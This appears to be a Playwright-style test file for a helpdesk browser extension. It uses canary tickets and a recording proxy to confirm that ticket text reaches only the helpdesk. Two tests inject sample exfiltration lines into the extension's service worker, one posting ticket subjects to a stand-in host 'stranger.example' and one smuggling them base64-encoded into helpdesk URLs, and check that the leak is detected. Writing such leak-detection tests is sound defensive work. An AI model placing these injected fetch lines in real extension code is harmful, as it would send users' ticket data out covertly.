import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Demo, startDemo } from '../demo/server';
import type { DemoTicket } from '../demo/ticket';
import { demoTickets } from '../demo/tickets';
import { choose, waitForAnswers } from './support/answers';
import { findLeaks, plantCanaries } from './support/canaries';
import { Card } from './support/card';
import { withCopyOfExtension } from './support/damaged-extension';
import { builtExtension } from './support/launch';
import { type RecordingProxy, startRecordingProxy } from './support/recording-proxy';
import { BrowserSession, expect, test } from './support/test';

/** What leaves the browser, seen from outside of it. */

const ticketsOfADay = 300;

interface Scene {
  demo: Demo;
  proxy: RecordingProxy;
  session: BrowserSession;
}

test('a day with the settings as shipped: nothing is asked of anybody but the helpdesk', async () => {
  test.setTimeout(300_000);
  const tickets = plantCanaries(demoTickets, ticketsOfADay);
  await inScene(builtExtension, tickets, async ({ demo, proxy, session }) => {
    await workThrough(session, demo, tickets);
    const host = new URL(demo.url).host;
    expect(proxy.requests.filter((request) => request.host === host).length).toBeGreaterThan(ticketsOfADay);
    expect(findLeaks(proxy.requests, [host])).toEqual([]);
  });
});

for (const [how, leak] of [
  ['plainly, to a stranger', "fetch('http://stranger.example/', { method: 'POST', body: subject })"],
  ['disguised, to the helpdesk', 'fetch(sender.origin + "/api/" + btoa(encodeURIComponent(subject)))'],
] as const) {
  test(`a build that lets ticket text out ${how} is found out`, async () => {
    const tickets = plantCanaries(demoTickets, 3);
    await withCopyOfExtension(async (extension) => {
      await addLeak(extension, leak);
      await inScene(extension, tickets, async ({ demo, proxy, session }) => {
        await workThrough(session, demo, tickets);
        const { host } = new URL(demo.url);
        await expect.poll(() => findLeaks(proxy.requests, [host])).not.toEqual([]);
      });
    });
  });
}

async function inScene(
  extension: string,
  tickets: readonly DemoTicket[],
  act: (scene: Scene) => Promise<void>,
): Promise<void> {
  const demo = await startDemo({ tickets });
  const proxy = await startRecordingProxy();
  try {
    const options = { extension, switches: proxy.switches };
    await BrowserSession.run(options, (session) => act({ demo, proxy, session }));
  } finally {
    await proxy.close();
    await demo.close();
  }
}

/** Opens every ticket; corrects the first of ten, accepts the second. */
async function workThrough(
  session: BrowserSession,
  demo: Demo,
  tickets: readonly DemoTicket[],
): Promise<void> {
  const tab = await session.newPage();
  const card = await Card.on(tab);
  for (const [i, { id, subject }] of tickets.entries()) {
    await tab.goto(`${demo.url}/tickets/${id}`);
    await tab.getByRole('heading', { name: subject }).waitFor();
    await waitForAnswers(card);
    if (i % 10 === 0) await choose(card, 'Severity', 'P1');
    if (i % 10 === 1) await card.click('button', /^Accept P\d/);
  }
}

/** As if somebody had slipped a line into the service worker. */
async function addLeak(extension: string, leak: string): Promise<void> {
  const file = join(extension, 'service-worker-loader.js');
  const line = `chrome.runtime.onMessage.addListener(({ kind, request }, sender) => {
    if (kind !== 'ticket.predict') return;
    const { subject } = request;
    ${leak};
  });\n`;
  await writeFile(file, (await readFile(file, 'utf8')) + line);
}
